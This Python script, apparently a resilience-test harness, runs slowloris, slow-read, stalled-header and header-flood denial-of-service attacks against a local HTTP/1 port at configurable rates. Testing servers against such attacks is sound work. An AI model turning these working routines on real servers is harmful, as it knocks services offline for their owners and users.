"""Attacks the HTTP/1 port it is told until it is ended: http1_attack.py PORT KIND COUNT CORE. `idle program` only spins; the
others spin as well between what they do, so that they are as busy."""
import contextlib
import os
import select
import socket
import sys
import time

HEAD = b'GET /k HTTP/1.1\r\nHost: a\r\n'
FIELDS = b''.join(b'X-%d: %s\r\n' % (n, b'y' * 300) for n in range(90))    # 28 kB in 90 fields: allowed
DRIPS_A_SECOND = 10_000                                # bytes of heads, of all connections together
SIPS_A_SECOND = 2000                                   # of 100 bytes of answers
FLOODS_A_SECOND = 500                                  # heads of 28 kB


def connect(port, receive=None):
    client = socket.socket()
    if receive:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    client.connect(('127.0.0.1', port))
    client.setblocking(False)
    return client


def pace(rate):
    """Spins until the next of `rate` a second is due."""
    due = time.perf_counter()
    while True:
        while time.perf_counter() < due:
            pass
        yield
        due = max(due + 1 / rate, time.perf_counter() - 0.1)


def crowd(port, count, first, every, rate, receive=None):
    """Keeps `count` connections open, each begun with `first`; does `every` to them in turn, `rate` a second in all."""
    clients, beat = [], pace(rate)
    while True:
        for n in range(count):
            next(beat)
            try:
                if n >= len(clients):
                    clients.append(connect(port, receive))
                    clients[n].send(first)
                elif every:
                    every(clients[n])
            except BlockingIOError:
                pass
            except OSError:                            # closed, or no place for it: again
                with contextlib.suppress(OSError):
                    if n < len(clients):
                        clients[n].close()
                        clients[n] = connect(port, receive)
                        clients[n].send(first)


def drip(client):
    client.send(b'y')


def sip(client):
    if not client.recv(100):
        raise ConnectionError


def flood(port, heads):
    """Whole heads, as many a second on connections that stay as long as they may."""
    client, beat = connect(port), pace(FLOODS_A_SECOND)
    for _ in beat:
        with contextlib.suppress(BlockingIOError):
            try:
                client.send(heads)
                select.select([client], [], [], 0)
                if not client.recv(1 << 16):
                    raise ConnectionError
            except BlockingIOError:
                raise
            except OSError:
                client.close()
                client = connect(port)


def attack(port, kind, count):
    if kind == 'idle program':
        while True:
            pass
    if kind == 'slowloris':
        crowd(port, count, HEAD + b'X: ', drip, DRIPS_A_SECOND)
    if kind == 'large heads that stall':
        crowd(port, count, HEAD + FIELDS, drip, DRIPS_A_SECOND)
    if kind == 'slow read':
        crowd(port, count, b'GET /large HTTP/1.1\r\nHost: a\r\n\r\n', sip, SIPS_A_SECOND, receive=4096)
    if kind == 'idle connections':
        crowd(port, count, HEAD + b'\r\n', None, 5000)
    if kind == 'header flood':
        flood(port, HEAD + FIELDS + b'\r\n')
    if kind == 'header flood, refused':
        flood(port, HEAD + FIELDS + FIELDS + b'\r\n')


if __name__ == '__main__':
    os.sched_setaffinity(0, {int(sys.argv[4])})
    attack(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]))
